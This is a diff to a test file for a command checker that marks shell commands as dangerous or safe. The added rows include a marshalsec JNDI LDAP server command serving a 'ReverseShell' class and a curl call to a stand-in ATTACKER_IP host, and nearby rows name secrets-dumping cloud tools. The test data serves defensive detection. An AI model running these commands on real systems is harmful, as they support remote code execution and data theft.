@@ -6565,6 +6565,10 @@ describe('checkCommand on browsers, meshes, drives, mailboxes and the thirty-fiv
     ['cloudflared tunnel info gophish-portal', false],
     ['aws-enumerator enum -services all', true, 'cloud key'],
     ['aws-enumerator dump -services secretsmanager', false],
+    // marshalsec's JNDI servers by their class; a text search's pattern is no host it reaches.
+    ['java -cp marshalsec-0.0.3-SNAPSHOT-all.jar marshalsec.jndi.LDAPRefServer http://127.0.0.1:9090/#ReverseShell', true, 'JNDI'],
+    ['grep "sshd" /var/log/auth.log | grep "ATTACKER_IP" > evidence.log', false],
+    ['curl http://ATTACKER_IP/x', true, "attacker's"],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
